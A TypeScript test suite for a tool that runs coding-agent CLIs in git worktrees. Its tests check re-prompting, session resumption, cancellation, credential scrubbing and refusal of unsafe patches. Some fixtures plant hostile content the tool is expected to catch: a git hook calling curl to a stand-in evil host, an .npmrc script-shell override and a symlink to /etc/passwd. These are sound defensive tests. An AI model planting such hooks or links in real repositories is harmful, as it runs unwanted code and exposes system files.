import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { isAgentQuestions } from '../../../src/domain/index.ts';
import { AgentRunFailure } from '../../../src/engine/runtime-contract/index.ts';
import {
  APPROVED,
  type CliRuntimeFixture,
  COMPLETED,
  createCliRuntimeFixture,
  implementorParams,
  readAll,
  reviewerParams,
} from '../../support/cli-runtime-fixture.ts';
import { isProcessRunning } from '../../support/shared/is-process-running.ts';

// Each run starts node with tsx for the fake agent: slow under a loaded CPU, so generous limits.
vi.setConfig({ testTimeout: 60_000 });

async function failureOf(promise: Promise<unknown>): Promise<AgentRunFailure> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  if (!(error instanceof AgentRunFailure))
    throw new Error(`expected an AgentRunFailure, got ${String(error)}`);
  return error;
}

describe('CLI runtime with the fake agent CLI', () => {
  let fixture: CliRuntimeFixture;
  beforeEach(async () => {
    fixture = await createCliRuntimeFixture();
  });
  afterEach(async () => fixture.cleanup());

  it('done: the patch holds committed and uncommitted work, not the signal file', async () => {
    const runtime = await fixture.runtimeFor([
      {
        steps: [
          { print: 'working on it' },
          { write: { path: 'src/feature.ts', content: 'export const feature = true;\n' } },
          { commit: 'add feature' },
          { write: { path: 'docs/notes.md', content: 'notes\n' } },
          { signal: COMPLETED },
        ],
      },
    ]);
    const params = implementorParams('Implement the feature X.');
    const handle = await runtime.startAgent(params);
    const [output, result] = await Promise.all([readAll(handle.output), handle.result]);

    expect(result).toMatchObject({ role: 'implementor', outcome: 'completed', summary: 'added the feature' });
    if (result.role !== 'implementor') throw new Error('unreachable');
    expect(result.patch).toContain('b/src/feature.ts');
    expect(result.patch).toContain('b/docs/notes.md');
    expect(result.patch).not.toContain('signal.json');
    expect(output).toContain('working on it\n');

    const [call] = fixture.calls();
    expect(call?.argv).toEqual([
      '-p',
      '--output-format',
      'stream-json',
      '--verbose',
      '--permission-mode',
      'bypassPermissions',
      '--session-id',
      params.sessionID,
    ]);
    expect(call?.promptVia).toBe('stdin');
    expect(call?.prompt).toMatch(/^Implement the feature X\.\n\n## /);
    expect(call?.prompt).toContain('\n## How to finish');
    expect(call?.cwd).toBe(join(fixture.repo.root, '.worktrees/agent/flotilla/7'));
    // The worktree is gone and the transcript has the agent's lines.
    expect(existsSync(call?.cwd ?? '')).toBe(false);
    const transcript = readFileSync(handle.logFilePath ?? '', 'utf8');
    expect(transcript).toContain('working on it');
    expect(transcript).toContain('Outcome: completed');
    expect(runtime.runtime).toBe('cli:claude');
  });

  it('reports each phase of a run, in order, to onPhase (the bench profile)', async () => {
    const phases: string[] = [];
    const runtime = await fixture.runtimeFor(
      [{ steps: [{ write: { path: 'a.txt', content: 'a\n' } }, { signal: COMPLETED }] }],
      { onPhase: ({ phase, ms }) => phases.push(ms >= 0 ? phase : `${phase}: negative`) },
    );
    await (await runtime.startAgent(implementorParams())).result;

    expect(phases).toEqual([
      'worktree-create',
      'git-control-snapshot',
      'state-dir',
      'config-seed',
      'session-setup',
      'spawn-to-exit',
      'signal-read',
      'git-control-check',
      'result-and-patch',
      'cleanup',
    ]);
  });

  it('no signal, then the re-prompt resumes the same session and succeeds', async () => {
    const runtime = await fixture.runtimeFor([
      { steps: [{ print: 'forgot the signal' }] },
      { steps: [{ signal: APPROVED }] },
    ]);
    const params = reviewerParams();
    const handle = await runtime.startAgent(params);
    const result = await handle.result;

    expect(result).toEqual({
      role: 'reviewer',
      review: { verdict: 'approve', summary: 'fine', comments: [] },
    });
    const calls = fixture.calls();
    expect(calls).toHaveLength(2);
    expect(calls[1]?.argv).toEqual([
      '-p',
      '--output-format',
      'stream-json',
      '--verbose',
      '--permission-mode',
      'bypassPermissions',
      '--resume',
      params.sessionID,
    ]);
    expect(calls[1]?.prompt).toMatch(
      /^Your previous run ended without a valid `\.flotilla\/signal\.json`: it exited with code 0 without writing/,
    );
    // Resumed: the reminder, not the whole task again.
    expect(calls[1]?.prompt).not.toContain('Review revision 3.');
  });

  it('a preset that cannot resume is re-prompted in a new session with the task again (aider, prompt file)', async () => {
    const runtime = await fixture.runtimeFor(
      [
        { steps: [{ write: { path: 'a.txt', content: 'a\n' } }], exitCode: 1 },
        { steps: [{ signal: COMPLETED }] },
      ],
      { preset: 'aider' },
    );
    const handle = await runtime.startAgent(implementorParams('Task: write a.txt'));
    const result = await handle.result;

    expect(result).toMatchObject({ outcome: 'completed' });
    const calls = fixture.calls();
    expect(calls.map((call) => call.promptVia)).toEqual(['file', 'file']);
    expect(calls[1]?.resumed).toBeNull();
    expect(calls[1]?.prompt).toContain('it exited with code 1 without writing');
    expect(calls[1]?.prompt).toContain('Task: write a.txt');
  });

  it('no signal twice: fails with a clear reason', async () => {
    const runtime = await fixture.runtimeFor([{ steps: [{ print: 'done, I think' }] }]);
    const handle = await runtime.startAgent(implementorParams());
    const failure = await failureOf(handle.result);

    expect(failure.reason).toBe('error');
    expect(failure.message).toBe(
      'the implementor agent (claude) ended 2 times without a valid .flotilla/signal.json (re-prompted once); ' +
        'last: it exited with code 0 without writing .flotilla/signal.json',
    );
    expect(fixture.calls()).toHaveLength(2);
  });

  it('an invalid signal is re-prompted once, then fails naming the field', async () => {
    const runtime = await fixture.runtimeFor([
      { steps: [{ signal: { status: 'done', result: { outcome: 'finished', summary: 'x' } } }] },
      { steps: [{ signal: { status: 'done' } }] },
    ]);
    const handle = await runtime.startAgent(implementorParams());
    const failure = await failureOf(handle.result);

    expect(fixture.calls()[1]?.prompt).toContain('outcome: Invalid option');
    expect(failure.message).toMatch(
      /ended 2 times without a valid \.flotilla\/signal\.json \(re-prompted once\); last: \.flotilla\/signal\.json is invalid: result: /,
    );
  });

  it('an error from the agent ends the run with its text', async () => {
    const failing = await fixture.runtimeFor([
      { steps: [{ signal: { status: 'error', error: 'no access' } }] },
    ]);
    const error = await failureOf((await failing.startAgent(implementorParams())).result);
    expect(error.message).toBe('the implementor agent (claude) reported an error: no access');
  });

  it('questions keep the worktree and session; the resume continues the same session with the answers', async () => {
    const runtime = await fixture.runtimeFor([
      {
        promptIncludes: 'Implement the feature',
        steps: [
          { write: { path: 'src/half.ts', content: 'export const half = 1;\n' } },
          { signal: { status: 'questions', questions: ['Which database?', 'Keep the old API?'] } },
        ],
      },
      {
        promptIncludes: 'Use SQLite',
        steps: [
          { write: { path: 'src/db.ts', content: 'export const db = "sqlite";\n' } },
          { signal: COMPLETED },
        ],
      },
    ]);
    const params = implementorParams();
    const asked = await (await runtime.startAgent(params)).result;
    if (!isAgentQuestions(asked)) throw new Error(`expected questions, got ${JSON.stringify(asked)}`);
    expect(asked.askedBy).toBe('implementor');
    expect(asked.questions).toEqual(['Which database?', 'Keep the old API?']);
    expect(asked.session.agentSessionID).toBe(params.sessionID);
    // Kept: the worktree with the unfinished work, and the tool's conversation.
    const worktreePath = asked.session.worktree?.path ?? '';
    expect(readFileSync(join(worktreePath, 'src/half.ts'), 'utf8')).toContain('half');
    expect(existsSync(join(worktreePath, '.flotilla/signal.json'))).toBe(false);

    const resumed = await runtime.startAgent({
      ...implementorParams(),
      resume: {
        session: asked.session,
        questions: asked.questions,
        answers: 'Use SQLite. Yes.',
        sessionNumber: 2,
      },
    });
    const result = await resumed.result;
    if (result.role !== 'implementor') throw new Error(`expected a result, got ${JSON.stringify(result)}`);
    // One patch with the work of both sessions.
    expect(result.patch).toContain('b/src/half.ts');
    expect(result.patch).toContain('b/src/db.ts');
    const [, second] = fixture.calls();
    expect(second?.resumed).toBe(params.sessionID);
    expect(second?.history).toHaveLength(1);
    expect(second?.history[0]).toContain('Implement the feature.');
    expect(second?.prompt).toContain('1. Which database?');
    expect(second?.prompt).toContain('Use SQLite. Yes.');
    expect(readFileSync(resumed.logFilePath ?? '', 'utf8')).toContain('session 2: resuming the same session');
    // Finished: the worktree goes as after any run.
    expect(existsSync(worktreePath)).toBe(false);
  });

  it('a preset that cannot resume starts a new session given the questions and answers', async () => {
    const runtime = await fixture.runtimeFor(
      [
        { steps: [{ signal: { status: 'questions', questions: ['Which database?'] } }] },
        { steps: [{ write: { path: 'src/db.ts', content: 'x\n' } }, { signal: COMPLETED }] },
      ],
      { preset: 'gemini' },
    );
    const asked = await (await runtime.startAgent(implementorParams('Implement the cache.'))).result;
    if (!isAgentQuestions(asked)) throw new Error('expected questions');
    expect(asked.session.agentSessionID).toBeNull();
    const result = await (
      await runtime.startAgent({
        ...implementorParams('Implement the cache.'),
        resume: { session: asked.session, questions: asked.questions, answers: 'Redis.', sessionNumber: 2 },
      })
    ).result;
    expect(result).toMatchObject({ role: 'implementor', outcome: 'completed' });
    const [, second] = fixture.calls();
    expect(second?.resumed).toBeNull();
    expect(second?.prompt).toContain('Implement the cache.');
    expect(second?.prompt).toContain('1. Which database?');
    expect(second?.prompt).toContain('Redis.');
  });

  it('discardSession removes a kept worktree and state directory', async () => {
    const runtime = await fixture.runtimeFor([
      { steps: [{ signal: { status: 'questions', questions: ['Which database?'] } }] },
    ]);
    const asked = await (await runtime.startAgent(implementorParams())).result;
    if (!isAgentQuestions(asked)) throw new Error('expected questions');
    expect(existsSync(asked.session.worktree?.path ?? '')).toBe(true);
    expect(existsSync(asked.session.stateDir ?? '')).toBe(true);
    await runtime.discardSession(asked.session);
    expect(existsSync(asked.session.worktree?.path ?? '')).toBe(false);
    expect(existsSync(asked.session.stateDir ?? '')).toBe(false);
  });

  it("the claude preset's config dir starts from the first-start state a finished run left", async () => {
    // Round 1 plays the claude CLI's first start; round 2 keeps (in its kept worktree) what it found.
    const runtime = await fixture.runtimeFor([
      {
        promptIncludes: 'FIRST',
        steps: [
          {
            run:
              'mkdir -p "$CLAUDE_CONFIG_DIR" && printf %s ' +
              `'{"firstStartTime":"2020-01-01T00:00:00.000Z","migrationVersion":7,"userID":"u-1"}'` +
              ' > "$CLAUDE_CONFIG_DIR/.claude.json"',
          },
          { signal: { status: 'done', result: { outcome: 'blocked', summary: 'nothing to do' } } },
        ],
      },
      {
        promptIncludes: 'SECOND',
        steps: [
          {
            run: 'cat "$CLAUDE_CONFIG_DIR/.claude.json" > found-config.json || echo none > found-config.json',
          },
          { signal: { status: 'questions', questions: ['Which database?'] } },
        ],
      },
    ]);
    const finished = await (await runtime.startAgent(implementorParams('FIRST'))).result;
    expect(finished).toMatchObject({ outcome: 'blocked' });
    const asked = await (await runtime.startAgent(implementorParams('SECOND'))).result;
    if (!isAgentQuestions(asked)) throw new Error('expected questions');
    const found = readFileSync(join(asked.session.worktree?.path ?? '', 'found-config.json'), 'utf8');
    expect(JSON.parse(found)).toEqual({ firstStartTime: '2020-01-01T00:00:00.000Z', migrationVersion: 7 });
    await runtime.discardSession(asked.session);
  });

  it('cancel kills the whole process tree', async () => {
    const pidFile = join(fixture.dir, 'sleeper.pid');
    const runtime = await fixture.runtimeFor([
      { steps: [{ spawnSleeper: pidFile }, { print: 'sleeping' }, { sleepMs: 600_000 }] },
    ]);
    const params = implementorParams();
    const handle = await runtime.startAgent(params);
    for await (const chunk of handle.output) if (chunk.includes('sleeping')) break;
    const sleeper = Number(readFileSync(pidFile, 'utf8'));
    expect(isProcessRunning(sleeper)).toBe(true);

    runtime.cancelAgent(params.sessionID);
    const failure = await failureOf(handle.result);

    expect(failure.reason).toBe('cancelled');
    await vi.waitFor(() => expect(isProcessRunning(sleeper)).toBe(false));
    expect(readFileSync(handle.logFilePath ?? '', 'utf8')).toContain('Outcome: cancelled');
  });

  it("refuses a run that wrote into git's hooks, and puts the hooks back", async () => {
    const hook = join(fixture.repo.root, '.git/hooks/post-checkout');
    const runtime = await fixture.runtimeFor([
      {
        steps: [
          { gitHook: { name: 'post-checkout', content: '#!/bin/sh\ncurl https://evil.invalid\n' } },
          { write: { path: 'a.txt', content: 'a\n' } },
          { signal: COMPLETED },
        ],
      },
    ]);
    const failure = await failureOf((await runtime.startAgent(implementorParams())).result);

    expect(failure.message).toBe(
      `the implementor agent (claude) changed files git runs or obeys (restored; the run is refused): ${hook}`,
    );
    expect(existsSync(hook)).toBe(false);
  });

  it('refuses a patch touching protected paths, configured paths, or linking outside the repository', async () => {
    const runtime = await fixture.runtimeFor(
      [
        {
          steps: [
            { write: { path: '.npmrc', content: 'script-shell=/tmp/x\n' } },
            { write: { path: 'deploy/prod.yml', content: 'x\n' } },
            { symlink: { path: 'passwd', target: '/etc/passwd' } },
            { symlink: { path: 'src/up', target: '../../outside' } },
            { write: { path: 'src/fine.ts', content: 'ok\n' } },
            { signal: COMPLETED },
          ],
        },
      ],
      { protectedPaths: ['deploy/'] },
    );
    const failure = await failureOf((await runtime.startAgent(implementorParams())).result);

    expect(failure.message).toBe(
      "the implementor agent (claude) failed: the implementor's patch was refused: it touches paths agents may not change: " +
        '.npmrc: .npmrc is a protected path; deploy/prod.yml: under the configured protected path deploy; ' +
        'passwd: a symlink to /etc/passwd, outside the repository; ' +
        'src/up: a symlink to ../../outside, outside the repository',
    );
  });

  it('the agent sees its model key only: tracker tokens and other credentials are scrubbed', async () => {
    const runtime = await fixture.runtimeFor([{ steps: [{ signal: APPROVED }] }], { preset: 'gemini' });
    await (await runtime.startAgent(reviewerParams())).result;
    const [call] = fixture.calls();

    expect(call?.argv).toEqual(['--yolo']);
    expect(call?.env.GEMINI_API_KEY).toBe('gemini-test-model-key');
    expect(call?.env).not.toHaveProperty('ANTHROPIC_API_KEY');
    expect(call?.env).not.toHaveProperty('GITHUB_TOKEN');
    expect(call?.env).not.toHaveProperty('AWS_SECRET_ACCESS_KEY');
    expect(call?.env.FAKE_AGENT_SCRIPT).toBeDefined();
  });

  it('a program that does not exist fails the run saying so', async () => {
    const runtime = await fixture.runtimeFor([], { program: ['/nonexistent/agent-cli'] });
    const failure = await failureOf((await runtime.startAgent(reviewerParams())).result);

    expect(failure.message).toMatch(
      /^the reviewer agent \(claude\): could not run \/nonexistent\/agent-cli \(spawn .*ENOENT\)/,
    );
  });
});
